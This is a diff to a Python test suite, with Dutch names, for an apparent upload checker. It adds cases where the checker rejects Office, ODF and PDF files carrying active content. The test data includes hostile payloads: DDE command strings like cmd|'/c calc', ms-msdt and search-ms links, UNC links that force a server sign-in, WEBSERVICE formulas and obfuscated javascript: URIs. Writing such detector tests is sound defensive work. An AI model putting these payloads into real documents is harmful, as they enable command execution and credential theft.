@@ -151,6 +151,16 @@ def test_een_veld_in_word_dat_een_ander_programma_of_bestand_vraagt_wordt_gezien
             assert str(fout.value) == archief.BUITEN, naam
 
 
+def test_een_formule_die_niets_vraagt_mag() -> None:
+    cellen = "".join(f"<c><f>{formule}</f><v>1</v></c>" for formule in VRAAGT_NIET)
+    tekst = "<si><t>WEBSERVICE(x), cmd|'/c calc'!A0</t></si>"
+    delen = {
+        "xl/worksheets/sheet1.xml": f"<x>{cellen}</x>".encode(),
+        "xl/sharedStrings.xml": f"<x>{tekst}</x>".encode(),
+    }
+    assert keur("a.xlsx", bouw.office("xlsx", erbij=delen)).vorm == "xlsx"
+
+
 # What is asked of the memory of a process of its own: what a picture takes beside what Python and Pillow do.
 _GEHEUGEN = """
 import io, resource, sys
@@ -209,6 +219,92 @@ def slechte_pdf() -> Iterator[tuple[str, str, bytes, str]]:
     yield "een kop zonder eind", "a.pdf", bouw.pdf(extra=leeg), pdf.VREEMD
 
 
+def klik(naar: str) -> bytes:
+    """An address on which people click, in an Office file."""
+    return f'<Relationship Type="x/hyperlink" Target="{naar}" TargetMode="External"/>'.encode()
+
+
+def wat_een_klik_start() -> Iterator[tuple[str, str, bytes, str]]:
+    """Links that start a program or sign in at a server, and what a document asks by itself when it is opened."""
+    for naar in (
+        "ms-msdt:/id PCWDiagnostic",
+        "search-ms:query=x",
+        "file://server/a",
+        "\\\\server\\a",
+        "javascript:x()",
+    ):
+        yield f"klik naar {naar}", "a.docx", bouw.office(erbij={"word/_rels/d.xml.rels": klik(naar)}), archief.BUITEN
+        xml = f'<x xmlns:l="urn:l"><a l:href="{naar}"/></x>'.encode()
+        zin = archief.MACROS if naar.startswith("javascript") else archief.BUITEN
+        yield f"klik in odt naar {naar}", "a.odt", bouw.odf(erbij={"styles.xml": xml}), zin
+    for soort in ("spreadsheetml.connections+xml", "spreadsheetml.queryTable+xml", "x.webextensiontaskpanes+xml"):
+        deel = f'<Override PartName="/xl/a.xml" ContentType="application/vnd.{soort}"/>'
+        yield f"vraagt zelf: {soort}", "a.xlsx", bouw.office("xlsx", soorten=deel), archief.BUITEN
+    for actie in ("ppaction://program", "ppaction://macro?name=a", " PPACTION://ole?verb=0"):
+        dia = f'<p xmlns:a="urn:a"><a:hlinkHover action="{actie}"/></p>'.encode()
+        yield actie, "a.pptx", bouw.office("pptx", erbij={"ppt/slides/slide1.xml": dia}), archief.MACROS
+    for formule in (
+        "of:=DDE(&quot;soffice&quot;;&quot;a&quot;)",
+        "of:=1+WebService (A1)",
+        "of:=HYPERLINK(&quot;smb://x&quot;)",
+    ):
+        xml = f'<x xmlns:t="urn:t"><t:cel t:formula="{formule}"/></x>'.encode()
+        yield formule, "a.ods", bouw.odf("ods", erbij={"styles.xml": xml}), archief.FORMULE
+    yield from formules_van_excel()
+    for schoon in (rb"file:///server/a", rb"javascript:x\(\)", rb"\\\\server\\a", b"ms-msdt:x", b" search-ms:x"):
+        klik_ = b"5 0 obj\n<</Type/Annot/A<</S/URI/URI (" + schoon + b")>>>>\nendobj\n"
+        yield f"klik in pdf naar {schoon!r}", "a.pdf", bouw.pdf(extra=klik_), pdf.ACTIEF
+    for anders in (b"(java\\163cript:x)", b"(java\\\nscript:x)", b"<6A617661 736372697074 3A78>", b"(\\163mb:x)"):
+        extra = b"5 0 obj\n<</A<</S/URI/URI" + anders + b">>>>\nendobj\n"
+        yield f"klik in pdf, {anders!r}", "a.pdf", bouw.pdf(extra=extra), pdf.ACTIEF
+
+
+VRAAGT = (
+    "_xlfn.WEBSERVICE(&quot;https://x.example/&quot;&amp;A1)",
+    "1+webservice(A1)",
+    "_xlfn.IMAGE(A1)",
+    "RTD(&quot;a.b&quot;,,1)",
+    "cmd|&apos;/c calc&apos;!A0",
+    "MSEXCEL|System!x",
+    "&#87;EBSERVICE(A1)",
+    # A click that starts something, or makes who clicks sign in at a server; and a click of which nobody knows.
+    "HYPERLINK(&quot;file://server/a.exe&quot;)",
+    "IF(A1,Hyperlink (&quot;&#92;&#92;server&#92;a&quot;,1),2)",
+    "HYPERLINK(&quot;ms-msdt:x&quot;)",
+    "HYPERLINK(A1,&quot;https://x.example/&quot;)",
+    "HYPERLINK(&quot;fi&quot;&amp;&quot;le:&quot;&amp;A1)",
+)
+# What looks like it and asks nothing.
+VRAAGT_NIET = (
+    "IF(A1=&quot;a|b&quot;,Blad2!B1)",
+    "SUM(A1:A9)",
+    "HYPERLINK(&quot;https://x.example/&quot;,A1)",
+    "HYPERLINK(&quot;mailto:&quot;&amp;A1)",
+    "HYPERLINK(&quot;#Blad2!A1&quot;)",
+)
+
+
+def formules_van_excel() -> Iterator[tuple[str, str, bytes, str]]:
+    """Formulas that ask when the sheet is opened: in a cell, a name, a rule, and in a part by another name."""
+    for formule in VRAAGT:
+        cel = f"<worksheet><c><f>{formule}</f><v>1</v></c></worksheet>".encode()
+        blad = bouw.office("xlsx", erbij={"xl/worksheets/sheet1.xml": cel})
+        yield f"formule {formule}", "a.xlsx", blad, archief.FORMULE
+    naam = f"<w><definedNames><definedName>{VRAAGT[1]}</definedName></definedNames></w>".encode()
+    yield "een naam die vraagt", "a.xlsx", bouw.office("xlsx", erbij={"xl/namen.xml": naam}), archief.FORMULE
+    soort = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+    deel = f'<Override PartName="/elders/blad%31.dat" ContentType="{soort}"/>'
+    inhoud = f"<worksheet><c><f>{VRAAGT[0]}</f></c></worksheet>".encode()
+    elders = bouw.office("xlsx", erbij={"elders/blad1.dat": inhoud}, soorten=deel)
+    yield "een blad onder een andere naam", "a.xlsx", elders, archief.FORMULE
+    word = soort.replace("spreadsheetml.worksheet", "wordprocessingml.header")
+    velden = f'<w:hdr xmlns:w="{_W}">{_veld("DDEAUTO cmd")}</w:hdr>'.encode()
+    kop = bouw.office(
+        erbij={"elders/kop.dat": velden}, soorten=f'<Override PartName="/elders/kop.dat" ContentType="{word}"/>'
+    )
+    yield "een kop onder een andere naam", "a.docx", kop, archief.BUITEN
+
+
 def slechte() -> Iterator[tuple[str, str, bytes, str]]:
     """What it is, its name, its bytes, and a part of the sentence of the refusal."""
     pdf_, docx, png = bouw.pdf(), bouw.office(), bouw.afbeelding("png")
@@ -216,6 +312,7 @@ def slechte() -> Iterator[tuple[str, str, bytes, str]]:
     yield from op_slot_en_bommen()
     yield from van_elders()
     yield from slechte_pdf()
+    yield from wat_een_klik_start()
     yield "leeg", "a.pdf", b"", keuring.LEEG
     yield "soort", "a.exe", bouw.EXE, keuring.GEEN_VORM
     yield "html", "a.html", EMAIL, keuring.GEEN_VORM
@@ -241,9 +338,32 @@ def slechte() -> Iterator[tuple[str, str, bytes, str]]:
     yield "iets voor het archief", "a.docx", b"#!/bin/sh\n" + docx, "past niet bij de naam"
     yield "pdf achter het archief", "a.docx", docx + pdf_, "past niet bij de naam"
     yield "archief achter een deel", "a.docx", b"PK\x03\x04" + b"\0" * 40 + docx, "past niet bij de naam"
-    # Nested.
+    yield from genest()
+
+
+def genest() -> Iterator[tuple[str, str, bytes, str]]:
+    """Another file in it."""
+    pdf_, docx = bouw.pdf(), bouw.office()
     for naam, binnen in (("zip", docx), ("ole", bouw.OLE), ("exe", bouw.EXE), ("pdf", pdf_), ("gzip", b"\x1f\x8b\x08")):
         yield f"{naam} in docx", "a.docx", bouw.office(erbij={"word/media/beeld.png": binnen}), archief.GENEST
+    for naam, begin in (
+        *(("cab", b"MSCF\0\0"), ("snelkoppeling", b"L\0\0\0\x01\x14\x02\0\0"), ("helpbestand", b"ITSF\x03")),
+        *(
+            ("schilscript", b"#!/bin/sh"),
+            ("java", b"\xca\xfe\xba\xbe"),
+            ("macos", b"\xcf\xfa\xed\xfe"),
+            ("flash", b"CWS"),
+        ),
+        *(
+            ("zstd", b"\x28\xb5\x2f\xfd"),
+            ("lz4", b"\x04\x22\x4d\x18"),
+            ("onenote", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d"),
+        ),
+    ):
+        yield f"{naam} in docx", "a.docx", bouw.office(erbij={"word/media/beeld.png": begin}), archief.GENEST
+    for begin in (b"Rar!\x1a\x07\0", b"7z\xbc\xaf\x27\x1c"):
+        verstopt = b"9 0 obj\n<</Length 9>>\nstream\n" + begin + b"\nendstream\nendobj\n"
+        yield f"{begin[:2]!r} in pdf", "a.pdf", bouw.pdf(extra=verstopt), pdf.GENEST
     yield "inbedding", "a.docx", bouw.office(erbij={"word/embeddings/blad.xlsx": b"x"}), archief.GENEST
     yield "object in odt", "a.odt", bouw.odf(erbij={"Object 1/content.xml": b"<x/>"}), archief.GENEST
     yield "bestand in pdf", "a.pdf", bouw.pdf(extra=b"5 0 obj\n<</Type/EmbeddedFile>>\nendobj\n"), pdf.GENEST
@@ -304,6 +424,13 @@ def op_slot_en_bommen() -> Iterator[tuple[str, str, bytes, str]]:
 def test_een_adres_waarop_iemand_klikt_en_een_beeld_in_het_document_zelf_mogen() -> None:
     adres = b'<Relationship Type="x/hyperlink" Target="https://a.example/" TargetMode="External"/>'
     assert keur("a.docx", bouw.office(erbij={"word/_rels/d.xml.rels": adres})).vorm == "docx"
+    for naar in ("mailto:a@b.example", "tel:+31", "bijlage 2.docx", "http://a.example", "#kop"):
+        assert keur("a.docx", bouw.office(erbij={"word/_rels/d.xml.rels": klik(naar)})).vorm == "docx", naar
+    dia = b'<p xmlns:a="urn:a"><a:hlinkClick action="ppaction://hlinksldjump"/></p>'
+    assert keur("a.pptx", bouw.office("pptx", erbij={"ppt/slides/slide1.xml": dia})).vorm == "pptx"
+    for uri in (b"https://a.example/", b"mailto:a@b.example", b"bijlage.pdf"):
+        actie = b"5 0 obj\n<</Type/Annot/A<</S/URI/URI(" + uri + b")>>>>\nendobj\n"
+        assert keur("a.pdf", bouw.pdf(extra=actie)).vorm == "pdf", uri
     zelf = b'<x xmlns:l="urn:l"><image l:href="Pictures/a.png"/><a l:href="https://a.example/"/></x>'
     assert keur("a.odt", bouw.odf(erbij={"styles.xml": zelf})).vorm == "odt"
 
@@ -415,7 +542,7 @@ def test_een_schijf_die_niet_kan_weigert_met_een_zin(settings: Any, tmp_path: Pa
     with pytest.raises(Geweigerd, match="kon nu niet worden bewaard"):
         opslag.zet_klaar(b"x")
     assert opslag.lees(uuid4()) is None
-    assert opslag.op_schijf() == frozenset()
+    assert not opslag.ligt_er(uuid4())
     with pytest.raises(Geweigerd, match="Er is niets vernietigd"):
         opslag.zet_op_weg(uuid4(), None)
 
